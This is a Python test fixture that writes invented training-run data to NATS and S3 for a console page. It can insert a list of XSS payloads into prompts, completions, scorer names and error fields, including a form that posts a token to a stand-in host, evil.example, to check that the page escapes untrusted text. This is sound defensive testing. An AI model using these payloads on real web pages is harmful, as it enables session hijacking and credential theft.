"""A run as its services leave it on NATS and S3, for the page to show; with invented values and, on request, hostile texts."""

from __future__ import annotations

import hashlib
import json
import time
from typing import Any

import numpy as np
from tests.console.record import recorded_run as recorded
from tests.episodes import forked, group_of, one_turn
from tests.groups import make_group, pack_bytes

from penstock.protocol import blob_keys, streams, subjects
from penstock.protocol.config.connection import NatsSettings, S3Settings
from penstock.protocol.facts import DeadLetter, GroupGenerated, encode, encode_unbounded
from penstock.protocol.groups import BlobRef, ScoredGroup
from penstock.protocol.packs import step_logprobs
from penstock.protocol.packs.step_logprobs import CLIPPED, KeptGroup, LogprobsHeader, StepLogprobs
from penstock.protocol.record.lineage import (
    AccountState,
    CheckpointCommitted,
    DroppedGroup,
    EvaluatedGroup,
    LineageChapter,
    RecordedGroup,
    RecordedSession,
    RecordedStep,
)
from penstock.protocol.trajectory import Group
from penstock.protocol.transport.blobs import Blobs
from penstock.protocol.transport.bus import Bus
from penstock.protocol.versions import PolicyVersion

STEPS_A_CHAPTER = 10
GROUPS_A_STEP = 3
GROUP_SIZE = 4
WITHOUT_LOGPROBS = 2  # the step of which no log-probabilities are stored
EPISODES, DROPPED, EVALUATED, WAITING = "e9.p0.a0", "e9.p1.a0", "eval.v0.p0", "e9.p2.a0"

# Texts that would run a script, or mislead a reader, if any of them were taken as anything but text.
HOSTILE = (
    "<script>window.broken=1</script>",
    "<img src=x onerror=window.broken=1>",
    "<svg onload=window.broken=1>",
    '"><iframe srcdoc="<script>parent.broken=1</script>">',
    "javascript:window.broken=1",
    "</textarea><script>window.broken=1</script>",
    "</title></style></script><script>window.broken=1</script>",
    "<a href=javascript:window.broken=1>click</a>",
    "{{constructor.constructor('window.broken=1')()}}${window.broken=1}",
    "<style>body{display:none}</style>",
    "<base href=//evil.example/><form action=//evil.example><input name=token>",
    "\u202e1=nekorb\u202c \u0000\u0007\u001b[31m \ufeff",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<math><mtext><script>window.broken=1</script></mtext></math>",
    "&lt;script&gt;window.broken=1&lt;/script&gt;",
)


class ShownRun:
    def __init__(self, run_id: str, bus: Bus, blobs: Blobs, *, hostile: bool = False) -> None:
        self.run_id = run_id
        self.bus = bus
        self.blobs = blobs
        self.hostile = hostile
        self.rewards: dict[str, tuple[float, ...]] = {}
        self.groups: dict[str, Group] = {}
        self.end: BlobRef | None = None
        self._services = recorded.Services(bus, run_id)

    def write(self, steps: int = recorded.STEPS) -> None:
        """Write events, heartbeats, weights, dead letters, and the record with its packs."""
        self.publish_history(steps)
        self.beat()
        self.publish_dead_letter()
        self.write_record(steps)

    def publish_history(self, steps: int, *, workers: int = 2) -> None:
        """The events of every step, evaluations of two sources, and the adoption of each version."""
        say = self._services.say
        say(recorded.event("state", recorded.START, text="training", total_steps=steps + 100))
        for number in range(1, steps + 1):
            self.publish_step(number)
            sent = {
                "raw_bytes": 900_000,
                "sent_bytes": 10_000 + number,
                "density": 0.01,
                "publish_s": 0.05,
                "diff_s": 0.03,
            }
            data = {"version": number, "kind": "patch", **sent}
            event = recorded.event("weights", recorded.START + number).model_copy(update={"data": data})
            say(recorded.published(number), event)
            for worker in range(workers):
                fact = recorded.applied(f"rollout-{worker}", number)
                update = {"pause_s": 0.02 * (1 + worker), "fetch_s": 0.03 * (1 + worker)}
                say(fact.model_copy(update=update))
            if number % 20 == 0 or number == 1:
                for split, base in (("math", 0.5), ("code", 0.3)):
                    accuracy = base + 0.4 * number / steps
                    say(recorded.evaluation(number, accuracy, recorded.START + number, split=split))
        detail = HOSTILE[1] if self.hostile else "endpoint answered 500"
        failed = {"reason": "endpoint_failed", "detail": detail, "group_ids": ["e0.p1.a0"]}
        say(recorded.event("reward_error", recorded.START, "reward", **failed))

    def publish_step(self, number: int, **more: Any) -> None:
        at = recorded.START + number / 2
        if self.hostile:
            parts = {HOSTILE[0]: 0.5, HOSTILE[1]: 0.25}
            more |= {"logprobs_lost": 3, "reward_parts": parts, "scored_by": {HOSTILE[2]: 3}}
        fields = {"truncated_share": 0.3, "lr": 1e-5, "lr_set": 1e-5, "grad_norm": 0.1, "publish_s": 0.05}
        fields["entropy"] = 0.5 / (1 + number / 50)
        self._services.say(recorded.step(number, at, **{**fields, **more}))

    def beat(self) -> None:
        fresh = {"at": time.time(), "period_s": 600.0, **({"state": HOSTILE[4]} if self.hostile else {})}
        self._services.beat(*(one.model_copy(update=fresh) for one in recorded.fleet(30)))

    def publish_dead_letter(self) -> None:
        group = self._group("e9.p3.a0", 10_000, version=1)
        pack = self._pack("dead", [group])
        fact = GroupGenerated(run_id=self.run_id, pack_id="dead", worker_id="w", pack=pack, groups=(group.summary(0),))
        letter = DeadLetter(
            run_id=self.run_id, stage="generated", subject=subjects.generated(self.run_id, "train"),
            reason="endpoint_failed", detail=HOSTILE[0] if self.hostile else "endpoint answered 500", group_ids=(group.group_id,),
            num_delivered=5, payload=encode(fact),
        )  # fmt: skip
        self._services.say(letter)

    def write_record(self, steps: int) -> None:
        """Chapters of ten steps each, a pack a step, and the key that names the last chapter."""
        parent: BlobRef | None = None
        for number, first in enumerate(range(1, steps + 1, STEPS_A_CHAPTER), start=1):
            last = min(first + STEPS_A_CHAPTER - 1, steps)
            parent = self.write_chapter(number, first, last, parent, is_last=last == steps)
        self.commit(parent, steps)

    def commit(self, end: BlobRef | None, steps: int) -> None:
        self.end = end
        pointer = CheckpointCommitted(epoch=1, step=steps, version=steps, chapter=1, record=end)
        bucket = self.bus.key_value(streams.state_bucket(self.run_id).bucket).wait()
        bucket.put(streams.CHECKPOINT_KEY, encode(pointer)).wait()

    def pointer(self) -> bytes | None:
        entry = self.bus.key_value(streams.state_bucket(self.run_id).bucket).wait().get(streams.CHECKPOINT_KEY).wait()
        return None if entry is None else entry.value

    def write_chapter(self, number: int, first: int, last: int, parent: BlobRef | None, *, is_last: bool) -> BlobRef:
        recorded_steps = tuple(self._step(step, with_episodes=step == 1) for step in range(first, last + 1))
        more: dict[str, Any] = {}
        if number == 1:
            settings = json.dumps({"settings": {"trainer": {"lr": 1e-5}}}).encode()
            config = self.blobs.put(blob_keys.lineage_config(self.run_id, "a" * 64), settings)
            more["lives"] = (
                RecordedSession(epoch=1, holder="trainer", at=recorded.START, step=0, version=0, parent_version=None, weights_digest="0" * 64, config=config),
            )  # fmt: skip
            dropped, evaluated = self._group(DROPPED, 0, version=0), self._group(EVALUATED, 1, version=0, split="eval")
            more["closed_packs"] = (self._pack("closed", [dropped, evaluated]),)
            more["dropped"] = (DroppedGroup(group_id=DROPPED, split="train", reason="stale", num_tokens=12, pack=0),)
            more["evaluated"] = (EvaluatedGroup(group_id=EVALUATED, num_tokens=12, pack=0),)
        if is_last:
            more["account"] = AccountState(in_flight={"train": (WAITING,)})
        chapter = LineageChapter(
            run_id=self.run_id, number=number, parent=parent, epoch=1, step=last, version=last, weights_digest="0" * 64,
            steps=recorded_steps, **{"account": AccountState(), **more},
        )  # fmt: skip
        return self.blobs.put(blob_keys.lineage_chapter(self.run_id, number, 1, "a"), encode_unbounded(chapter))

    def _step(self, step: int, *, with_episodes: bool) -> RecordedStep:
        ids = [f"e0.p{step * GROUPS_A_STEP + i}.a0" for i in range(GROUPS_A_STEP)]
        groups = [self._group(group_id, step * GROUPS_A_STEP + i, version=step - 1) for i, group_id in enumerate(ids)]
        if with_episodes:
            message = [
                {"role": "user", "content": HOSTILE[3] if self.hostile else "look up 37"},
                {"role": "assistant", "content": "82"},
            ]
            episodes = [forked(0, group_id=EPISODES, messages=json.dumps(message)), one_turn(1, group_id=EPISODES)]
            groups.append(group_of(*episodes))
        pack = self._pack(f"step{step}", groups)
        if step != WITHOUT_LOGPROBS:
            store_logprobs(self.blobs, self.run_id, step, groups, pack)
        return RecordedStep(
            epoch=1, step=step, trained_version=step - 1, made_version=step, weights_digest="0" * 64, packs=(pack,),
            groups=tuple(RecordedGroup(prompt=step, pack=0, scored=self._scored(group, i)) for i, group in enumerate(groups)),
        )  # fmt: skip

    def _scored(self, group: Group, row_group: int) -> ScoredGroup:
        count = len(group.rows_of)
        rewards = tuple(float((n + row_group) % 2) for n in range(count))
        self.rewards[group.group_id] = rewards
        self.groups[group.group_id] = group
        name = HOSTILE[1] if self.hostile else "correct"
        scorer = HOSTILE[2] if self.hostile else "exact@1"
        return ScoredGroup(generated=group.summary(row_group), rewards=rewards, parts={name: rewards}, scorer=scorer)

    def _group(self, group_id: str, seed: int, *, version: int, **more: Any) -> Group:
        prompt, truth = f"sort: {seed} 3 1 2", "1 2 3"
        texts = [f"completion {i} of {group_id}" for i in range(GROUP_SIZE)]
        if self.hostile:
            prompt = HOSTILE[seed % len(HOSTILE)]
            truth = HOSTILE[(seed + 1) % len(HOSTILE)]
            texts = [HOSTILE[(seed + i) % len(HOSTILE)] for i in range(GROUP_SIZE)]
        more |= {"prompt_text": prompt, "ground_truth": truth, "texts": texts}
        return make_group(group_id, size=GROUP_SIZE, version=version, seed=seed, **more)

    def _pack(self, name: str, groups: list[Group]) -> BlobRef:
        key = blob_keys.group_pack(self.run_id, PolicyVersion(0), name, "a1")
        return self.blobs.put(key, pack_bytes(groups))


def made_logprobs(run_id: str, step: int, groups: list[Group], pack: BlobRef) -> StepLogprobs:
    """Log-probabilities of a trainer that has moved from the sampler, by other amounts in each row; every third token is clipped."""
    rows, logprobs, outcomes = [], [], []
    for number, group in enumerate(groups):
        for row, one in enumerate(group.trajectories):
            sampled = one.behaviour_logprobs[one.loss_mask]
            rows.append((number, row, len(sampled)))
            logprobs.append(np.minimum(sampled + 0.4 * np.sin(np.arange(len(sampled)) + step + row), 0.0))
            outcomes.append(np.where(np.arange(len(sampled)) % 3 == 2, CLIPPED, 0))
    header = LogprobsHeader(
        run_id=run_id, step=step, trained_version=step - 1, made_version=step,
        groups=tuple(KeptGroup(group_id=one.group_id, pack=pack.sha256, row_group=n) for n, one in enumerate(groups)),
    )  # fmt: skip
    return StepLogprobs(
        header, np.array(rows, np.int32), np.concatenate(logprobs).astype(np.float32), np.concatenate(outcomes).astype(np.uint8)
    )  # fmt: skip


def store_logprobs(blobs: Blobs, run_id: str, step: int, groups: list[Group], pack: BlobRef, *, epoch: int = 1) -> str:
    data = step_logprobs.encode(made_logprobs(run_id, step, groups, pack))
    return blobs.put(blob_keys.step_logprobs(run_id, step, epoch, hashlib.sha256(data).hexdigest()), data).key


def environ_of(nats_settings: NatsSettings, s3_settings: S3Settings) -> dict[str, str]:
    values = {
        "NATS__URL": nats_settings.url, "NATS__USER": nats_settings.user, "NATS__PASSWORD": nats_settings.secret(),
        "S3__ENDPOINT": s3_settings.endpoint, "S3__BUCKET": s3_settings.bucket, "S3__ACCESS_KEY": s3_settings.access_key,
        "S3__SECRET_KEY": s3_settings.secret(),
    }  # fmt: skip
    return {f"PENSTOCK_{name}": value for name, value in values.items() if value}


def token_arrays(group: Group, trajectory: int) -> tuple[list[int], np.ndarray]:
    row = group.trajectories[group.rows_of[trajectory][0]]
    return row.token_ids.tolist(), row.behaviour_logprobs
